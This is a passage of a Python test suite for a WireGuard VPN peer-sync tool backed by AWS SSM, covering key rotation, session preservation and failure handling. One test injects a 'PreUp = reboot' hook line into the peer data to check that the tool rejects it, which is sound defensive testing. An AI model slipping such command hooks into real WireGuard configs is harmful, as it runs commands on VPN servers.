                             universal_newlines=True, check=True).stdout.strip()
        self.put("private-key", new)
        r = self.sync()
        self.assertOk(r)
        self.assertIn(pub, r.stderr)
        self.assertNotIn(new, r.stderr)
        with open(self.conf) as f:
            self.assertIn("PrivateKey = " + new, f.read())

    def test_bad_peers_keep_the_running_config(self):
        self.assertOk(self.sync())
        with open(self.conf) as f:
            good = f.read()
        os.unlink(os.path.join(self.fake, "calls.log"))
        self.put("peers", PEERS.replace("AllowedIPs = 10.8.0.2/32", "PreUp = reboot"))
        r = self.sync()
        self.assertEqual(r.returncode, 1)
        self.assertIn("peers line 5:", r.stderr)
        self.assertNotIn("reboot", r.stderr)
        with open(self.conf) as f:
            self.assertEqual(f.read(), good)
        self.assertNotIn("wg syncconf wg0", self.calls())
        self.assertEqual(self.wgdir_entries(), ["wg0.conf"])

    def test_unreachable_ssm_or_missing_key_exit_0(self):
        self.assertOk(self.sync())
        before = os.stat(self.conf).st_mtime_ns
        self.env["AWS_ENDPOINT_URL"] = "http://127.0.0.1:%d" % free_port()
        self.env["AWS_MAX_ATTEMPTS"] = "1"
        r = self.sync()
        self.assertOk(r)
        self.assertIn("cannot read /stingy-vpn/wireguard/private-key", r.stderr)
        self.env["AWS_ENDPOINT_URL"] = self.moto.url
        self.ssm.delete_parameter(Name="/stingy-vpn/wireguard/private-key")
        r = self.sync()
        self.assertOk(r)
        self.assertIn("ParameterNotFound", r.stderr)
        self.assertEqual(os.stat(self.conf).st_mtime_ns, before)

    def test_failed_syncconf_is_retried_next_time(self):
        open(os.path.join(self.fake, "fail-syncconf"), "w").close()
        r = self.sync()
        self.assertEqual(r.returncode, 1)
        self.assertIn("syncconf", r.stderr)
        self.assertFalse(os.path.exists(self.conf), "wg0.conf replaced though not applied")
        os.unlink(os.path.join(self.fake, "fail-syncconf"))
        self.assertOk(self.sync())
        self.assertTrue(os.path.exists(self.conf))

    def test_wg0_down_updates_the_file_only(self):
        open(os.path.join(self.fake, "down"), "w").close()
        r = self.sync()
        self.assertOk(r)
        self.assertIn("not up", r.stderr)
        self.assertTrue(os.path.exists(self.conf))
        self.assertNotIn("wg syncconf wg0", self.calls())


# ---- real WireGuard in network namespaces ----

def _can_run_real():
    ok, why = wireguard_netns_support(("wg", "wg-quick", "wireguard-go", "ip", "nsenter"))
    if ok and not AWS_BIN:
        return False, "needs the AWS CLI (aws)"
    return ok, why


_REAL_OK, _REAL_WHY = _can_run_real()


@unittest.skipUnless(_REAL_OK, _REAL_WHY)
class RealSyncTest(unittest.TestCase):
    """Server namespace: wg-quick up of a config `render` made (NAT rules
    with nft when it is installed), userspace wireguard-go. Client namespace:
    its own wireguard-go. A veth between them, the server's default route
    through it. `sync` runs inside the server namespace; its aws calls go
    back to the test's namespace, where moto listens."""

    PORT = 51820

    def setUp(self):
        pid = os.getpid() % 100000
        self.srv, self.cli = "stingy-is-%d" % pid, "stingy-ic-%d" % pid
        self.sif, self.cif = "sis%d" % pid, "sic%d" % pid      # wireguard interfaces
        self.tmp = tempfile.mkdtemp(prefix="stingy-instance-real-")
        self.addCleanup(shutil.rmtree, self.tmp, ignore_errors=True)
        self.root = os.path.join(self.tmp, "root")
        self.conf = os.path.join(self.root, "etc", "wireguard", self.sif + ".conf")
        self.nat = bool(shutil.which("nft"))
        if not os.path.isdir("/var/run/wireguard"):
            self.addCleanup(self._rmdir_if_empty, "/var/run/wireguard")
        for ns in (self.srv, self.cli):
            r = subprocess.run(["ip", "netns", "add", ns], stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, universal_newlines=True)
            if r.returncode != 0:
                self.skipTest("ip netns add failed: " + r.stdout.strip())
            self.addCleanup(self._del_netns, ns)
        self.host(["ip", "link", "add", "v" + self.sif, "netns", self.srv, "type", "veth",
                   "peer", "name", "v" + self.cif, "netns", self.cli])
        for ns, dev, addr in ((self.srv, "v" + self.sif, "10.99.0.1/24"),
                              (self.cli, "v" + self.cif, "10.99.0.2/24")):
            self.ns(ns, "ip", "link", "set", "lo", "up")
            self.ns(ns, "ip", "addr", "add", addr, "dev", dev)
            self.ns(ns, "ip", "link", "set", dev, "up")
        self.ns(self.srv, "ip", "route", "add", "default", "via", "10.99.0.2")

        self.moto = moto()
        reset_moto(self.moto)
        self.ssm = self.moto.client("ssm")
        aws = write(os.path.join(self.tmp, "aws"),
                    "#!/bin/sh\nexec nsenter --net=/proc/%d/ns/net -- %s \"$@\"\n"
                    % (os.getpid(), AWS_BIN), 0o755)
        write(os.path.join(self.root, "etc", "stingy-vpn", "instance.env"),
              ENV.replace("10.0.0.0/16", "10.99.0.0/16"))
        self.env = clean_env(HOME=self.tmp, STINGY_ROOT=self.root, STINGY_IF=self.sif,
                             STINGY_AWS=aws, AWS_ENDPOINT_URL=self.moto.url, **CREDS)

    # helpers

    @staticmethod
    def _rmdir_if_empty(path):
        try:
            os.rmdir(path)
        except OSError:
            pass

    def _del_netns(self, ns):
        # wg-quick down (PostDown, the socket), then end what still runs there
        for conf in (self.conf, os.path.join(self.tmp, "nonat", self.sif + ".conf"),
                     os.path.join(self.tmp, self.cif + ".conf")):
            if os.path.exists(conf):
                subprocess.run(["ip", "netns", "exec", ns, "wg-quick", "down", conf],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
        r = subprocess.run(["ip", "netns", "pids", ns], stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL, universal_newlines=True)
        pids = [int(p) for p in r.stdout.split()]
        for p in pids:
            try:
                os.kill(p, 15)
            except ProcessLookupError:
                pass
        deadline = time.monotonic() + 5
        for p in pids:
            while os.path.exists("/proc/%d" % p) and time.monotonic() < deadline:
                time.sleep(0.05)
            if os.path.exists("/proc/%d" % p):
                try:
                    os.kill(p, 9)
                except ProcessLookupError:
                    pass
        subprocess.run(["ip", "netns", "del", ns], stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
        for iface in (self.sif, self.cif):
            try:
                os.unlink("/var/run/wireguard/%s.sock" % iface)
            except FileNotFoundError:
                pass

    def host(self, cmd):
        r = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           universal_newlines=True, timeout=30)
        self.assertEqual(r.returncode, 0, "%s: exit %d\n%s%s"
                         % (" ".join(cmd), r.returncode, r.stdout, r.stderr))
        return r

    def ns(self, ns, *cmd, env=None, check=True, input=None):
        r = subprocess.run(["ip", "netns", "exec", ns] + list(cmd), stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, universal_newlines=True, timeout=60,
                           env=env, input=input)
        if check:
            self.assertEqual(r.returncode, 0, "%s: exit %d\n%s%s"
                             % (" ".join(cmd), r.returncode, r.stdout, r.stderr))
        return r

    def genkey(self):
        priv = self.host(["wg", "genkey"]).stdout.strip()
        pub = subprocess.run(["wg", "pubkey"], input=priv, stdout=subprocess.PIPE,
                             universal_newlines=True, check=True).stdout.strip()
        return priv, pub

    def put(self, name, value):
        self.ssm.put_parameter(Name="/stingy-vpn/wireguard/" + name, Value=value,
                               Type="SecureString", Overwrite=True)

    def sync(self):
        r = self.ns(self.srv, SCRIPT, "sync", env=self.env)
        self.assertNotIn(self.server_priv, r.stdout + r.stderr)
        return r

    def wg(self, what):
        """`wg show SIF what` as {peer: value} ({peer: ""} for peers)."""
        out = self.ns(self.srv, "wg", "show", self.sif, what).stdout
        return dict((l.split("\t", 1) + [""])[:2] for l in out.splitlines())

    def reach(self):
        """True when the client reaches the server's tunnel address."""
        if shutil.which("ping"):
            r = self.ns(self.cli, "ping", "-c", "1", "-W", "3", "10.8.0.1", check=False)
            return r.returncode == 0
        # no ping: a TCP connection refused by 10.8.0.1 went there and back
        probe = ("import socket, sys\ns = socket.socket(); s.settimeout(3)\n"
                 "try: s.connect(('10.8.0.1', 9))\n"
                 "except ConnectionRefusedError: sys.exit(0)\n"
                 "except OSError: sys.exit(1)\n")
        return self.ns(self.cli, sys.executable, "-c", probe, check=False).returncode == 0

    def peers_text(self, *pubs):
        return "".join("[Peer]\nPublicKey = %s\nAllowedIPs = 10.8.0.%d/32\n\n" % (p, i + 2)
                       for i, p in enumerate(pubs))

    def test_sync_changes_peers_and_keeps_sessions(self):
        self.server_priv, server_pub = self.genkey()
        client_priv, client_pub = self.genkey()
        _, other_pub = self.genkey()
        self.put("private-key", self.server_priv)
        self.put("peers", self.peers_text(client_pub))

        # the server: wg0.conf as render makes it (in the namespace: its default route)
        keyfile = write(os.path.join(self.tmp, "server.key"), self.server_priv + "\n", 0o600)
        peersfile = write(os.path.join(self.tmp, "peers"), self.peers_text(client_pub))
        env = self.env
        r = self.ns(self.srv, SCRIPT, "render", "--key", keyfile, "--peers", peersfile, env=env)
        self.assertIn('oifname "v%s"' % self.sif, r.stdout, "NAT out of the default route")
        write(self.conf, r.stdout, 0o600)
        up = self.conf
        if not self.nat:        # no nft here: bring it up without the NAT hooks
            r = self.ns(self.srv, SCRIPT, "render", "--no-nat", "--key", keyfile,
                        "--peers", peersfile, env=env)
            up = write(os.path.join(self.tmp, "nonat", self.sif + ".conf"), r.stdout, 0o600)
        self.ns(self.srv, "wg-quick", "up", up)
        if self.nat:
            rules = self.ns(self.srv, "nft", "list", "table", "ip", "stingy_vpn").stdout
            self.assertIn('oifname "v%s" ip saddr 10.8.0.0/24 masquerade' % self.sif, rules)
            self.assertIn('iifname "%s" oifname "v%s" accept' % (self.sif, self.sif), rules)

        # the client
        cconf = write(os.path.join(self.tmp, self.cif + ".conf"),
                      "[Interface]\nPrivateKey = %s\nAddress = 10.8.0.2/32\n\n[Peer]\n"
                      "PublicKey = %s\nEndpoint = 10.99.0.1:%d\nAllowedIPs = 10.8.0.0/24\n"
                      % (client_priv, server_pub, self.PORT), 0o600)
        self.ns(self.cli, "wg-quick", "up", cconf)
        self.assertTrue(wait_for(self.reach, 20, interval=0.2, what="ping through the tunnel"))
        hs = self.wg("latest-handshakes")
        self.assertNotEqual(hs.get(client_pub, "0"), "0", hs)
        rx = int(self.wg("transfer")[client_pub].split("\t")[0])
        self.assertGreater(rx, 0)

        # nothing changed in SSM: sync leaves everything alone
        before = os.stat(self.conf)
        r = self.sync()
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        self.assertEqual(os.stat(self.conf).st_mtime_ns, before.st_mtime_ns)

        time.sleep(1.1)         # a new handshake would show a later second
        self.put("peers", self.peers_text(client_pub, other_pub))
        r = self.sync()
        self.assertIn("applied", r.stderr)
        self.assertEqual(sorted(self.wg("peers")), sorted([client_pub, other_pub]))
        self.assertEqual(self.wg("allowed-ips")[other_pub], "10.8.0.3/32")
        self.assertEqual(self.wg("latest-handshakes")[client_pub], hs[client_pub],
                         "the client's session was re-created")
        self.assertGreaterEqual(int(self.wg("transfer")[client_pub].split("\t")[0]), rx)
        self.assertTrue(self.reach(), "no ping right after the sync")
        self.assertEqual(self.wg("latest-handshakes")[client_pub], hs[client_pub],
                         "the ping needed a new handshake")
        with open(self.conf) as f:
            self.assertIn("PublicKey = " + other_pub, f.read())
        self.assertEqual(stat.S_IMODE(os.stat(self.conf).st_mode), 0o600)

        before = os.stat(self.conf)
        r = self.sync()
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        after = os.stat(self.conf)
        self.assertEqual((after.st_ino, after.st_mtime_ns), (before.st_ino, before.st_mtime_ns))

        self.put("peers", self.peers_text(client_pub))       # other_pub removed
        r = self.sync()
        self.assertIn("applied", r.stderr)
        self.assertEqual(list(self.wg("peers")), [client_pub])
        self.assertEqual(self.wg("latest-handshakes")[client_pub], hs[client_pub])
        self.assertTrue(self.reach())
        self.assertEqual(sorted(os.listdir(os.path.dirname(self.conf))), [self.sif + ".conf"])

        # a new server key: applied by syncconf too; the log names its public key
        new_priv, new_pub = self.genkey()
        self.put("private-key", new_priv)
        r = self.ns(self.srv, SCRIPT, "sync", env=self.env)
        self.assertNotIn(new_priv, r.stdout + r.stderr)
        self.assertIn(new_pub, r.stderr)
        self.assertEqual(self.ns(self.srv, "wg", "show", self.sif, "public-key").stdout.strip(),
                         new_pub)


if __name__ == "__main__":
    unittest.main()
